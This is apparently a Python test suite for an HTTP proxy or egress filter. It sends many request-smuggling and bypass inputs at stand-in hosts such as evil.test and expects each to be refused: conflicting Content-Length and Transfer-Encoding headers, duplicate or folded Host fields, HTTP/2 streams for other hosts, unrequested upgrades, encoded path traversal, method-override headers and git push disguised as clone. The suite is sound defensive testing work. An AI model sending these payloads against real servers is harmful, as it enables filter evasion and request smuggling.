"""F: what an HTTP request can mean to one parser and not to another."""
import struct

from bed import (MARKER, PROXY, attempt, connect, dial, for_proxy, get, http, https, listen_to, proxy_address, say,
                 send, tls, told, twin_git, twin_plain, Refused)

SMUGGLED = f'GET /{MARKER} HTTP/1.1\r\nHost: evil.test\r\n\r\n'.encode()


def raw_request(a, what, data, *reasons, how=()):
    """Bytes for plain.test that are no sound request."""
    outcome = http('plain.test', data)
    a.refused(what, outcome, *how)
    if not PROXY and outcome[:1] == '4':
        a.check(f'{what} is told why: {outcome}', ' ' in outcome)
    a.record(*(reasons or ('malformed',)))


@attempt('F02', 'two Hosts, a list, none, an empty one, a folded one, a space before the colon', '400', twin=twin_plain)
def _(a):
    raw_request(a, 'two', b'GET / HTTP/1.1\r\nHost: plain.test\r\nHost: evil.test\r\n\r\n')
    raw_request(a, 'the same twice', b'GET / HTTP/1.1\r\nHost: plain.test\r\nHost: plain.test\r\n\r\n')
    raw_request(a, 'list', b'GET / HTTP/1.1\r\nHost: plain.test, evil.test\r\n\r\n', 'bad_name|malformed')
    raw_request(a, 'none', b'GET / HTTP/1.1\r\nAccept: */*\r\n\r\n', 'no_name|malformed')
    raw_request(a, 'empty', b'GET / HTTP/1.1\r\nHost:\r\n\r\n', 'bad_name|malformed|no_name')
    raw_request(a, 'folded', b'GET / HTTP/1.1\r\nHost: plain.test\r\n .evil.test\r\n\r\n')
    raw_request(a, 'space', b'GET / HTTP/1.1\r\nHost : plain.test\r\n\r\n')
    raw_request(a, 'HTTP/1.0', b'GET / HTTP/1.0\r\n\r\n', 'no_name|malformed')
    raw_request(a, 'tab in the line', b'GET\t/ HTTP/1.1\r\nHost: plain.test\r\n\r\n', 'malformed|bad_name|name_mismatch')
    raw_request(a, 'HTTP/2.0', b'GET / HTTP/2.0\r\nHost: plain.test\r\n\r\n')


FRAMINGS = {
    'both': 'Content-Length: 6\r\nTransfer-Encoding: chunked', 'both, other order': 'Transfer-Encoding: chunked\r\nContent-Length: 6', 'xchunked': 'Transfer-Encoding: xchunked',
    'chunked, identity': 'Transfer-Encoding: chunked, identity', 'identity': 'Transfer-Encoding: identity', 'gzip, chunked': 'Transfer-Encoding: gzip, chunked',
    'chunked twice': 'Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked', 'vertical tab': 'Transfer-Encoding: \x0bchunked', 'quoted': 'Transfer-Encoding: "chunked"',
    'two lengths': 'Content-Length: 5\r\nContent-Length: 6', 'list of lengths': 'Content-Length: 5, 6', '+5': 'Content-Length: +5', '-1': 'Content-Length: -1', '0x5': 'Content-Length: 0x5',
    '5 5': 'Content-Length: 5 5', 'huge': 'Content-Length: 99999999999999999999', 'empty': 'Content-Length:', 'space': 'Transfer-Encoding : chunked', 'folded': 'Transfer-Encoding:\r\n chunked',
}


@attempt('F03', 'Content-Length against Transfer-Encoding, in every spelling', '400 and the end of the connection', twin=twin_plain)
def _(a):
    for what, fields in FRAMINGS.items():
        raw_request(a, what, f'POST / HTTP/1.1\r\nHost: plain.test\r\n{fields}\r\n\r\n0\r\n\r\n'.encode() + SMUGGLED)


@attempt('F04', 'bare LF, bare CR, NUL in fields, a head without end', '400', twin=twin_plain)
def _(a):
    raw_request(a, 'LF', b'GET / HTTP/1.1\nHost: plain.test\n\n')
    raw_request(a, 'LF in a field', b'GET / HTTP/1.1\r\nHost: plain.test\r\nA: b\nHost: evil.test\r\n\r\n')
    raw_request(a, 'CR', b'GET / HTTP/1.1\r\nHost: plain.test\r\nA: b\rHost: evil.test\r\n\r\n')
    raw_request(a, 'NUL', b'GET / HTTP/1.1\r\nHost: plain.test\r\nA: b\0c\r\n\r\n')
    raw_request(a, 'no colon', b'GET / HTTP/1.1\r\nHost: plain.test\r\nnonsense\r\n\r\n')
    raw_request(a, 'head of 1 MB', b'GET / HTTP/1.1\r\nHost: plain.test\r\nA: ' + b'x' * 1000000 + b'\r\n\r\n', 'limit', how=('431', '431 limit', '400', 'reset'))


def body_is_cut(a, what, data):
    outcome = http('plain.test', b'POST /cut HTTP/1.1\r\nHost: plain.test\r\nTransfer-Encoding: chunked\r\n\r\n' + data)
    a.check(f'{what}: {outcome}', not outcome.startswith('2'))
    a.record('allowed')


@attempt('F04', 'chunks: ended by LF, sizes that lie, an extension of 1 MB', 'the request is cut', twin=twin_plain)
def _(a):
    body_is_cut(a, 'LF', b'3\nabc\n0\n\n' + SMUGGLED)
    body_is_cut(a, 'size', b'+3\r\nabc\r\n0\r\n\r\n')
    body_is_cut(a, 'hex', b'0x3\r\nabc\r\n0\r\n\r\n')
    body_is_cut(a, 'huge', b'fffffffffffffffff\r\nabc\r\n0\r\n\r\n')
    body_is_cut(a, 'lie', b'2\r\nabc\r\n0\r\n\r\n')
    body_is_cut(a, 'extension', b'3;' + b'x' * 1000000 + b'\r\nabc\r\n0\r\n\r\n')


@attempt('F04', 'a trailer that brings Host and Authorization', 'dropped', twin=twin_plain)
def _(a):
    data = f'POST /trailer HTTP/1.1\r\nHost: plain.test\r\nTransfer-Encoding: chunked\r\nTrailer: Authorization\r\n\r\n3\r\nabc\r\n0\r\nHost: evil.test\r\nAuthorization: {MARKER}\r\n\r\n'
    outcome = http('plain.test', data.encode())
    a.check(outcome, outcome[:3] in ('200', '400'))
    a.record('allowed')


def twice(s, first, second, wait=4.0):
    send(s, first + second)
    data = b''
    s.settimeout(wait)
    while data.count(b'HTTP/1.1 ') < 2:
        try:
            more = s.recv(65536)
        except OSError:
            break
        if not more:
            break
        data += more
    return data


@attempt('F05', 'two requests at once: the second for another host, on HTTP and on opened TLS', 'each is judged', twin=twin_plain)
def _(a):
    evil = get('evil.test', '/' + MARKER)
    if PROXY:
        with connect(*proxy_address()) as s:
            data = twice(s, for_proxy('plain.test', get('plain.test', '/first')), for_proxy('evil.test', evil))
            a.check('the second is refused', b'HTTP/1.1 403' in data or data.count(b'HTTP/1.') < 2)
        return
    with dial('plain.test', 80) as s:
        data = twice(s, get('plain.test', '/first'), evil)
        a.check('the first is answered', data.startswith(b'HTTP/1.1 200'))
        a.check('the second is not', b'HTTP/1.1 403' in data and b'name_mismatch' in data)
    with tls('git.test') as s:
        data = twice(s, get('git.test', '/org/first'), evil)
        a.check('TLS: the first is answered', data.startswith(b'HTTP/1.1 200'))
        a.check('TLS: the second is not', b'HTTP/1.1 403' in data and b'name_mismatch' in data)
    a.record('allowed', 'name_mismatch', 'allowed', 'name_mismatch')


def h2_frame(kind, flags, stream, payload):
    return struct.pack('!I', len(payload))[1:] + bytes([kind, flags]) + struct.pack('!I', stream) + payload


def h2_headers(stream, *fields):
    block = b''.join(b'\x10' + bytes([len(k)]) + k.encode() + bytes([len(v)]) + v.encode() for k, v in fields)  # literals, never indexed
    return h2_frame(1, 5, stream, block)


def h2_answers(s, streams, wait=4.0):
    """What DATA came on each stream."""
    out, data = {n: b'' for n in streams}, b''
    ended = set()
    s.settimeout(wait)
    while ended < set(streams):
        while len(data) < 9 or len(data) < 9 + int.from_bytes(data[:3], 'big'):
            try:
                more = s.recv(65536)
            except OSError:
                return out
            if not more:
                return out
            data += more
        size, kind, flags, stream = int.from_bytes(data[:3], 'big'), data[3], data[4], int.from_bytes(data[5:9], 'big')
        payload, data = data[9:9 + size], data[9 + size:]
        if kind == 4 and not flags & 1:
            send(s, h2_frame(4, 1, 0, b''))
        if kind == 0 and stream in out:
            out[stream] += payload
        if kind == 3 or (kind in (0, 1) and flags & 1):
            ended.add(stream)
            out[stream] += b'RST' if kind == 3 else b''
        if kind == 7:
            return out
    return out


@attempt('F07', 'HTTP/2: a second stream for another host, another scheme, another path', 'each stream is judged', twin=twin_git)
def _(a):
    with tls('git.test', alpn=['h2']) as s:
        if s.selected_alpn_protocol() != 'h2':
            a.seen.append('HTTP/2 is not offered')
            return
        request = lambda authority, path: ((':method', 'GET'), (':scheme', 'https'), (':authority', authority), (':path', path))
        send(s, b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n' + h2_frame(4, 0, 0, b'') + h2_headers(1, *request('git.test', '/org/h2')) + h2_headers(3, *request('evil.test', '/' + MARKER))
             + h2_headers(5, *request('open.test', '/' + MARKER)) + h2_headers(7, *request('git.test', '/secret/' + MARKER)))
        got = h2_answers(s, (1, 3, 5, 7))
        a.check(f'the first is answered: {got[1][:80]}', b'twin' in got[1])
        for n in (3, 5, 7):
            a.check(f'stream {n} is refused: {got[n][:200]}', b'"reason"' in got[n] or got[n] == b'RST')
    a.record('allowed', 'name_mismatch', 'name_mismatch', 'request_not_allowed')


@attempt('F08', 'upgrades: h2c, tcp, a switch that nobody asked for', 'no upgrade happens', twin=twin_plain)
def _(a):
    settings = 'HTTP2-Settings: AAMAAABkAAQAAP__'
    for upgrade, path in (('h2c', '/h2c'), ('tcp', '/switch'), ('TLS/1.2', '/switch')):
        outcome = http('plain.test', get('plain.test', path, 'Connection: Upgrade, HTTP2-Settings', f'Upgrade: {upgrade}', settings))
        a.check(f'{upgrade}: {outcome}', not outcome.startswith('101'))
        a.record('allowed')
    if not PROXY:
        a.refused('h2c without asking', say('plain.test', 80, b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n' + bytes(9)))
        a.record('malformed')


WEBSOCKET = ('Connection: Upgrade', 'Upgrade: websocket', 'Sec-WebSocket-Version: 13', 'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==')


def twin_websocket(a):
    with dial('plain.test', 80) as s:
        send(s, get('plain.test', '/switch', *WEBSOCKET))
        a.check('it switches', told(listen_to(s, 4, b'\r\n\r\n')) == '101')
        send(s, b'frames')
        a.check('bytes go both ways', listen_to(s, 4, b'frames') == b'echo:frames')
    a.record('allowed')


@attempt('F08', 'a WebSocket to a host that no rule names', '403', twin=twin_websocket, door='cove')
def _(a):
    from bed import CANARY, talk
    a.refused('evil', talk(CANARY, 80, get(f'f08.{MARKER}.evil.test', '/switch', 'Connection: Upgrade', 'Upgrade: websocket')), '403 no_rule')
    a.record('no_rule')


@attempt('own', 'a 101 that proves no WebSocket, with a request behind it', '502 broken; what is behind it goes nowhere', twin=twin_websocket, door='cove')
def _(a):
    with dial('plain.test', 80) as s:
        send(s, get('plain.test', '/switch-bare', *WEBSOCKET) + SMUGGLED)
        a.refused('a bare 101', told(listen_to(s, 4, b'}')), '502 broken')
    a.record('allowed')


@attempt('F10', 'a redirect from an allowed host to evil.test', 'the client gets it and is denied the next step; nobody follows it outside', twin=twin_plain)
def _(a):
    outcome = http('plain.test', get('plain.test', '/redirect-evil'))
    a.check(outcome, outcome.startswith('302'))
    a.record('allowed')
    try:
        dial(f'f10.{MARKER}.evil.test')
        a.check('evil.test was reached', False)
    except Refused as e:
        a.seen.append(str(e))
    a.record('no_rule')


@attempt('F14', 'data in a query, a cookie or a field, as much as will go', 'over 64 KiB refused; below it the record tells path and bytes', twin=twin_git)
def _(a):
    try:
        with tls('git.test') as s:
            send(s, get('git.test', '/org/x?q=' + 'y' * 100000))
            a.refused('query', told(listen_to(s)), '431', '431 limit', '414', 'reset')
    except Refused as e:
        a.seen.append(str(e))
    a.record('limit')


@attempt('F15', 'forged fields of proxies, and fields of one hop', 'dropped on the way', twin=twin_plain)
def _(a):
    names = ['Proxy-Authorization', 'Proxy-Connection', 'Via', 'Forwarded', 'X-Forwarded-For', 'X-Forwarded-Host', 'X-Forwarded-Proto', 'X-Real-IP', 'TE', 'Keep-Alive', 'X-Hop']
    outcome = http('plain.test', get('plain.test', '/forged', 'Connection: keep-alive, X-Hop', *[f'{n}: {MARKER}' for n in names]))
    a.check(outcome, outcome.startswith('200'))
    a.record('allowed')


@attempt('own', 'fields that tell a server another method or path than the one judged', 'dropped where rules speak of methods and paths', twin=twin_git, door='cove')
def _(a):
    names = ['X-HTTP-Method-Override', 'X-HTTP-Method', 'X-Method-Override', 'X-Original-URL', 'X-Rewrite-URL']
    outcome = https('git.test', get('git.test', '/org/override', *[f'{n}: {MARKER}' for n in names]))
    a.check(outcome, outcome == '200')
    a.record('allowed')


def read_all(s, wait=10.0):
    s.settimeout(wait)
    size = 0
    try:
        while True:
            more = s.recv(1 << 20)
            if not more:
                return size
            size += len(more)
    except OSError:
        return size


@attempt('F16', 'a body of 16 MiB, a gzip bomb, an endless stream', 'streamed as it comes; ends when the client ends', twin=twin_plain)
def _(a):
    for path, least in (('/big', 16 << 20), ('/bomb', 7000), ('/endless', 20)):
        with dial('plain.test', 80) if not PROXY else connect(*proxy_address()) as s:
            request = get('plain.test', path, 'Connection: close')
            send(s, for_proxy('plain.test', request) if PROXY else request)
            size = read_all(s) if path != '/endless' else len(s.recv(100)) + len(s.recv(100))
            a.check(f'{path}: {size} bytes', size >= least)
            a.record('allowed')


def twin_clone(a):
    for request in (get('clone.test', '/org/repo/info/refs?service=git-upload-pack'), get('clone.test', '/org/repo/git-upload-pack', method='POST', body=b'0000')):
        a.check('clone is answered', https('clone.test', request) == '200')
        a.record('allowed')


@attempt('F18', 'git push where rules allow clone', '403', twin=twin_clone)
def _(a):
    for request in (get('clone.test', '/org/repo/info/refs?service=git-receive-pack'), get('clone.test', '/org/repo/git-receive-pack', method='POST', body=MARKER.encode()),
                    get('clone.test', '/org/repo/info/refs?service=git-upload-pack&service=git-receive-pack'), get('clone.test', '/org/repo/info/refs?service=git%2Dreceive-pack'),
                    get('clone.test', '/org/repo/info/refs')):
        a.refused('push', https('clone.test', request))
        a.record('request_not_allowed|bad_path')


@attempt('own', 'paths that can be read in two ways', '403 bad_path, or not allowed', twin=twin_git)
def _(a):
    for path in ('/org/../secret', '/org/%2e%2e/secret', '/org/..%2fsecret', '/org//secret', '//secret', '/org/%5c..%5csecret', '/org/.%2e/secret', '/org/%252e%252e/secret', '/org\\secret', '/ORG/x',
                 '/org/./x', '/org;x/../secret', '/%6frg/../x', '/org/%00', '/org/..;/secret'):
        a.refused(path, https('git.test', get('git.test', path)))
        a.record('bad_path|request_not_allowed|malformed')


@attempt('own', 'methods: lower case, unknown, a method and a body', '403', twin=twin_git)
def _(a):
    for method in ('POST', 'get', 'PUT', 'DELETE', 'PATCH', 'TRACE', 'PROPFIND', 'GETX'):
        a.refused(method, https('git.test', get('git.test', '/org/x', method=method)))
        a.record('request_not_allowed|malformed')


@attempt('own', 'requests for evil.test that only some servers take for one, where the protocol is not read', 'read as what a server may take them for: 400, 403', door='cove')
def _(a):
    host = b'Host: evil.test\r\n\r\n'
    for what, line in (('small letters', b'get / HTTP/1.1\r\n'), ('another word', b'Fetch /x HTTP/1.1\r\n'), ('two blanks', b'GET  / HTTP/1.1\r\n'), ('a tab', b'GET\t/ HTTP/1.1\r\n'),
                       ('a scheme in capitals', b'GET HTTP://evil.test/ HTTP/1.1\r\n'), ('LF before', b'\nGET / HTTP/1.1\r\n'), ('LF alone', b'get / HTTP/1.1\n')):
        a.refused(what, say('raw.test', 5000, line + host))
        a.record('name_mismatch|malformed')
    with dial('raw.test', 5000) as s:
        send(s, b'stat /like/a/request\n')
        a.check('the twin is answered', told(listen_to(s, 4, b'echo')) == 'answered')
    a.record('allowed')
